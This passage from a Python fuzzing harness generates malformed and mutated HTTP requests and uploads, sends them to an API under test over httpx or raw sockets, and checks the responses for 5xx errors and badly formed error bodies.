            yield FuzzCase(f"mutant-{i}-multipart", "mutant-multipart", headers=form_headers(), body=body)
            continue
        data = _mutate(rng, good_zip if target == "zip" else images[target], donors)
        yield upload(f"mutant-{i}-{target}", f"mutant-{'zip' if target == 'zip' else 'image'}",
                     [(f"m.{EXTENSIONS.get(target, 'zip')}".encode(), data)])


# ---------------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------------

def structured(seed: int) -> list[FuzzCase]:
    """Every hand-written case of every family (their random parts drawn from ``seed``)."""
    cases: list[FuzzCase] = []
    for family in FAMILIES:
        cases.extend(family(random.Random(f"{seed}-{family.__name__}")))
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases


def generate(seed: int, n: int) -> list[FuzzCase]:
    """``n`` cases, the same for the same ``seed`` (and library versions).

    Below the size of the structured corpus, cases are taken round-robin over the kinds (so a small
    corpus still has every kind); above it, random mutants fill the rest.
    """
    cases = structured(seed)
    rng = random.Random(seed)
    if n >= len(cases):
        return cases + list(mutants(random.Random(f"{seed}-mutants"), n - len(cases)))
    by_kind: dict[str, list[FuzzCase]] = defaultdict(list)
    for case in cases + list(mutants(random.Random(f"{seed}-mutants"), 30)):
        by_kind[case.kind].append(case)
    for group in by_kind.values():
        rng.shuffle(group)
    chosen: list[FuzzCase] = []
    while len(chosen) < n:
        for group in by_kind.values():
            if group and len(chosen) < n:
                chosen.append(group.pop())
    return chosen


# ---------------------------------------------------------------------------------------------
# Sending
# ---------------------------------------------------------------------------------------------

@dataclass
class Outcome:
    """What came back for one case.

    Attributes:
        status: the HTTP status, or ``None`` when the server answered nothing (it closed the
            connection, or the client gave up waiting).
        content_type: the response's Content-Type.
        body: the response body (the first 64 kB).
        seconds: wall time of the request.
        error: a transport error, if any.
    """

    status: int | None
    content_type: str = ""
    body: bytes = b""
    seconds: float = 0.0
    error: str = ""
    headers: dict[str, str] = field(default_factory=dict)


def fill(case: FuzzCase, analysis_id: int, prediction_id: int, version: int = 0) -> FuzzCase:
    """The case with ``@AID@`` / ``@PID@`` / ``@VER@`` replaced by real ids and the analysis's version."""
    def sub(text: bytes) -> bytes:
        for placeholder, value in ((b"@AID@", analysis_id), (b"@PID@", prediction_id), (b"@VER@", version)):
            text = text.replace(placeholder, str(value).encode())
        return text
    return replace(case, path=sub(case.path.encode()).decode(), body=sub(case.body))


def send(case: FuzzCase, client: Any, base_url: str, headers: dict[str, str], timeout: float = 30.0) -> Outcome:
    """Send one (filled) case; ``client`` is an ``httpx.Client``; ``headers`` are added to every request.

    Raw cases go over a socket with the extra headers inserted after the request line.
    """
    start = time.perf_counter()
    if case.transport == "raw":
        return _send_raw(case, base_url, headers, timeout, start)
    own = {key.lower() for key, _ in case.headers}  # a case's own header (e.g. a forged Authorization) wins
    all_headers = [(key.encode(), value.encode()) for key, value in headers.items() if key.lower() not in own]
    all_headers += [(key.encode(), value) for key, value in case.headers]
    content: Any = case.body
    if case.transport == "chunked":
        content = iter([case.body[i:i + 16_384] for i in range(0, len(case.body), 16_384)] or [b""])
    try:
        response = client.request(case.method, base_url + case.path, content=content if case.body or
                                  case.method in ("POST", "PUT", "PATCH") else None, headers=all_headers, timeout=timeout)
    except Exception as error:  # noqa: BLE001 - any transport failure is an outcome to report, not a crash
        return Outcome(None, seconds=time.perf_counter() - start, error=f"{type(error).__name__}: {error}")
    return Outcome(response.status_code, response.headers.get("content-type", ""), response.content[:65_536],
                   time.perf_counter() - start, headers=dict(response.headers))


def _send_raw(case: FuzzCase, base_url: str, headers: dict[str, str], timeout: float, start: float) -> Outcome:
    parts = urlsplit(base_url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    request = case.body
    line_end = request.find(b"\r\n")
    if line_end >= 0:
        extra = b"".join(f"{key}: {value}\r\n".encode() for key, value in {"Host": parts.netloc, **headers}.items())
        if b"Connection:" not in request and not case.half_close:
            extra += b"Connection: close\r\n"
        request = request[:line_end + 2] + extra + request[line_end + 2:]
    received = bytearray()
    error = ""
    try:
        with socket.create_connection((host, port), timeout=timeout) as sock:
            sock.settimeout(min(timeout, 5.0))
            try:
                sock.sendall(request)
                if case.half_close:
                    sock.shutdown(socket.SHUT_WR)
            except OSError as send_error:  # the server may close first (e.g. after a 413 on the headers)
                error = f"send: {send_error}"
            while len(received) < 65_536:
                chunk = sock.recv(65_536)
                if not chunk:
                    break
                received += chunk
    except OSError as recv_error:
        error = error or f"{type(recv_error).__name__}: {recv_error}"
    seconds = time.perf_counter() - start
    if not received.startswith(b"HTTP/"):
        return Outcome(None, seconds=seconds, error=error or "no response", body=bytes(received[:200]))
    head, _, body = bytes(received).partition(b"\r\n\r\n")
    while head.startswith(b"HTTP/1.1 1") and body.startswith(b"HTTP/"):  # skip "100 Continue": the answer follows
        head, _, body = body.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    status = int(lines[0].split()[1])
    response_headers = {}
    for line in lines[1:]:
        key, _, value = line.partition(b":")
        response_headers[key.decode("latin-1").strip().lower()] = value.decode("latin-1").strip()
    return Outcome(status, response_headers.get("content-type", ""), body, seconds, error, response_headers)


def problems(case: FuzzCase, outcome: Outcome) -> list[str]:
    """What is wrong with an answer: a 5xx, an API 4xx that is not JSON ``{"detail": str}``, a wrong class."""
    found = []
    status = outcome.status
    if status is not None and status >= 500:
        found.append(f"{status}: {outcome.body[:200]!r}")
    if status is not None and 400 <= status < 500 and case.api and case.method != "HEAD":
        try:
            detail = json.loads(outcome.body)["detail"]
            if not isinstance(detail, str) or not detail:
                found.append(f"{status} detail is not a string: {detail!r}"[:300])
        except (ValueError, KeyError, TypeError):
            found.append(f"{status} is not JSON with a detail: {outcome.content_type} {outcome.body[:120]!r}")
    if case.expect == "2xx" and not (status is not None and 200 <= status < 300):
        found.append(f"expected 2xx, got {status} {outcome.body[:200]!r}")
    if case.expect == "4xx" and not (status is not None and 400 <= status < 500):
        found.append(f"expected 4xx, got {status} {outcome.body[:120]!r}")
    return found
